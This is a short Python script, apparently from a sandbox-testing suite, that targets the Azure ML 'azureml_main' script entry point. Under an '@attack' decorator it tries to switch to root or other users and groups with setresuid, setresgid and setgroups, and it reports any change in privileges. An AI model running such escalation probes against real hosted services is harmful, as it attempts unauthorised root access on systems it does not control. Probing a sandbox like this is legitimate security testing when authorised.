"""Becomes root, or anybody."""

import os

from attack import attack, every


def become(way):
    before = (os.getuid(), os.geteuid(), os.getgroups())
    way()
    after = (os.getuid(), os.geteuid(), os.getgroups())
    return f"came from {before} to {after}" if before != after else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    ways = [lambda: os.setgroups([0, 42]), lambda: os.setresuid(0, 0, 0)]
    return every(become, [*ways, lambda: os.setresgid(42, 42, 42), lambda: os.setresuid(1, 1, 1)])
